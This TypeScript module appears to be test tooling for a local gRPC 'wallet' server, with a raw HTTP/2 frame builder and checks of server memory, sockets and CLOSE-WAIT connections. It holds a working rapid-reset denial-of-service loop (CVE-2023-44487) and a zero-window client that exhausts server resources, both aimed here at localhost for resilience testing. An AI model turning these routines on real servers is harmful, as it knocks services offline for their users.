import { readdirSync, readFileSync, readlinkSync } from 'node:fs';
import http2 from 'node:http2';
import net from 'node:net';

// A hostile HTTP/2 client written frame by frame (RFC 9113), for what node's own client will not
// send: RST_STREAM right after HEADERS, frames on stream 0, more streams than the server allows.

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
export const FRAME = { DATA: 0, HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, GOAWAY: 7, WINDOW_UPDATE: 8 } as const;
const END_STREAM = 0x1;
const END_HEADERS = 0x4;
const ACK = 0x1;

/** One frame: 9-byte header, then the payload. */
export function frame(type: number, flags: number, streamId: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([header, payload]);
}

export function settings(pairs: [number, number][] = []): Buffer {
  const payload = Buffer.alloc(6 * pairs.length);
  pairs.forEach(([id, value], i) => {
    payload.writeUInt16BE(id, 6 * i);
    payload.writeUInt32BE(value, 6 * i + 2);
  });
  return frame(FRAME.SETTINGS, 0, 0, payload);
}

/** A gRPC request's header block: HPACK literals without indexing or Huffman coding. */
export function grpcHeaders(streamId: number, path: string, token?: string): Buffer {
  const literal = (name: string, value: string) => {
    const [n, v] = [Buffer.from(name), Buffer.from(value)];
    return Buffer.concat([Buffer.from([0x00]), hpackLength(n.length), n, hpackLength(v.length), v]);
  };
  const fields = [literal(':path', path), literal(':authority', 'wallet'), literal('content-type', 'application/grpc'), literal('te', 'trailers')];
  if (token) fields.push(literal('authorization', `Bearer ${token}`));
  // 0x83 = :method POST, 0x86 = :scheme http (static table)
  return frame(FRAME.HEADERS, END_HEADERS, streamId, Buffer.concat([Buffer.from([0x83, 0x86]), ...fields]));
}

function hpackLength(length: number): Buffer {
  // HPACK integer with a 7-bit prefix (RFC 7541 §5.1), no Huffman flag.
  if (length < 0x7f) return Buffer.from([length]);
  const bytes = [0x7f];
  let rest = length - 0x7f;
  while (rest >= 0x80) {
    bytes.push((rest & 0x7f) | 0x80);
    rest >>= 7;
  }
  bytes.push(rest);
  return Buffer.from(bytes);
}

/** A gRPC message frame: an empty protobuf message (a valid request for every method we call here). */
export function grpcEmptyMessage(streamId: number, endStream = true): Buffer {
  return frame(FRAME.DATA, endStream ? END_STREAM : 0, streamId, Buffer.alloc(5));
}

export function rstStream(streamId: number, code = http2.constants.NGHTTP2_CANCEL): Buffer {
  const payload = Buffer.alloc(4);
  payload.writeUInt32BE(code);
  return frame(FRAME.RST_STREAM, 0, streamId, payload);
}

export function windowUpdate(streamId: number, increment: number): Buffer {
  const payload = Buffer.alloc(4);
  payload.writeUInt32BE(increment);
  return frame(FRAME.WINDOW_UPDATE, 0, streamId, payload);
}

/** A raw connection: sends the preface and empty SETTINGS, ACKs the server's, and records what the server sends. */
export class RawHttp2 {
  readonly socket: net.Socket;
  /** GOAWAY error codes, RST_STREAM error codes, and the stream ids the server answered with HEADERS. */
  readonly goaways: number[] = [];
  readonly resets: number[] = [];
  readonly answered = new Set<number>();
  /** Resolves when the socket is closed, by either side. */
  readonly closed: Promise<void>;
  private pending = Buffer.alloc(0);

  constructor(port: number, initial: Buffer[] = []) {
    this.socket = net.connect(port, '127.0.0.1');
    this.socket.on('error', () => undefined); // a reset by the server is one of the outcomes under test
    this.socket.on('data', (chunk: Buffer) => this.read(chunk));
    this.closed = new Promise((resolve) => this.socket.once('close', () => resolve()));
    this.socket.write(Buffer.concat([PREFACE, settings(), ...initial]));
  }

  write(...frames: Buffer[]): void {
    if (!this.socket.destroyed) this.socket.write(Buffer.concat(frames));
  }

  private read(chunk: Buffer): void {
    this.pending = Buffer.concat([this.pending, chunk]);
    while (this.pending.length >= 9) {
      const length = this.pending.readUIntBE(0, 3);
      if (this.pending.length < 9 + length) return;
      const [type, flags, streamId] = [this.pending[3]!, this.pending[4]!, this.pending.readUInt32BE(5) & 0x7fffffff];
      const payload = this.pending.subarray(9, 9 + length);
      this.pending = this.pending.subarray(9 + length);
      if (type === FRAME.SETTINGS && !(flags & ACK)) this.write(frame(FRAME.SETTINGS, ACK, 0));
      else if (type === FRAME.GOAWAY) this.goaways.push(payload.readUInt32BE(4));
      else if (type === FRAME.RST_STREAM) this.resets.push(payload.readUInt32BE(0));
      else if (type === FRAME.HEADERS) this.answered.add(streamId);
    }
  }
}

const LISTEN = '0A';
const TIME_WAIT = '06';

/**
 * The TCP connections the kernel holds on the server's side of `port`: every socket bound to it
 * but the listener and TIME-WAIT (which no process holds). A CLOSE-WAIT here is a connection
 * whose peer is gone and which the server never closed.
 */
export function serverConnections(port: number): { state: string; unread: number }[] {
  const names: Record<string, string> = { '01': 'ESTABLISHED', '04': 'FIN-WAIT-1', '05': 'FIN-WAIT-2', '07': 'CLOSE', '08': 'CLOSE-WAIT', '09': 'LAST-ACK', '0B': 'CLOSING' };
  const rows = ['/proc/net/tcp', '/proc/net/tcp6'].flatMap((file) => {
    try {
      return readFileSync(file, 'utf8').trim().split('\n').slice(1);
    } catch {
      return [];
    }
  });
  return rows.flatMap((row) => {
    const [, local, , state, queues] = row.trim().split(/\s+/);
    if (!local || !state || !queues || Number.parseInt(local.split(':')[1]!, 16) !== port) return [];
    if (state === LISTEN || state === TIME_WAIT) return [];
    return [{ state: names[state] ?? state, unread: Number.parseInt(queues.split(':')[1]!, 16) }];
  });
}

/** A process's resident memory in MiB. */
export function rssMiB(pid: number): number {
  const kb = /VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1];
  return Number(kb) / 1024;
}

/** How many sockets a process has open (its listener and database connections included). */
export function socketCount(pid: number): number {
  return readdirSync(`/proc/${pid}/fd`).filter((fd) => {
    try {
      return readlinkSync(`/proc/${pid}/fd/${fd}`).startsWith('socket:');
    } catch {
      return false; // closed while we looked
    }
  }).length;
}

/** What a rapid-reset client met: the connections it made, and the GOAWAY codes that ended them. */
export interface RapidResetOutcome {
  connections: number;
  goaways: number[];
}

/**
 * Rapid reset (CVE-2023-44487) for `ms`: HEADERS then RST_STREAM `perConnection` times per
 * connection, without waiting, reconnecting whenever the server ends a connection; `loops` at once.
 */
export async function rapidReset(port: number, path: string, ms: number, loops = 2, perConnection = 1500): Promise<RapidResetOutcome> {
  const outcome: RapidResetOutcome = { connections: 0, goaways: [] };
  const frames: Buffer[] = [];
  for (let i = 0, id = 1; i < perConnection; i++, id += 2) frames.push(grpcHeaders(id, path), rstStream(id));
  const burst = Buffer.concat(frames);
  const end = Date.now() + ms;
  const loop = async () => {
    while (Date.now() < end) {
      const conn = new RawHttp2(port);
      outcome.connections += 1;
      conn.write(burst);
      await Promise.race([conn.closed, new Promise((resolve) => setTimeout(resolve, Math.max(0, end - Date.now())))]);
      outcome.goaways.push(...conn.goaways);
      conn.socket.destroy(); // gone, if the server had not closed it yet
    }
  };
  await Promise.all(Array.from({ length: loops }, loop));
  return outcome;
}

/** What a client that never reads got: streams answered (HEADERS), and errors. */
export interface NeverReading {
  readonly answered: () => number;
  readonly errors: string[];
  close(): void;
}

/**
 * `streams` calls of `path` on one connection whose client reads nothing: an initial window
 * of 0 lets the server send no DATA, so every answer it makes stays with it.
 */
export function neverReading(port: number, path: string, token: string, streams: number): NeverReading {
  const client = http2.connect(`http://127.0.0.1:${port}`, { settings: { initialWindowSize: 0 } });
  client.on('error', () => undefined);
  let answered = 0;
  const errors: string[] = [];
  for (let i = 0; i < streams; i++) {
    const stream = client.request({ ':method': 'POST', ':path': path, 'content-type': 'application/grpc', te: 'trailers', authorization: `Bearer ${token}` });
    stream.pause();
    stream.on('response', () => (answered += 1));
    stream.on('error', (err: Error) => errors.push(err.message));
    stream.end(Buffer.alloc(5));
  }
  return { answered: () => answered, errors, close: () => client.destroy() };
}
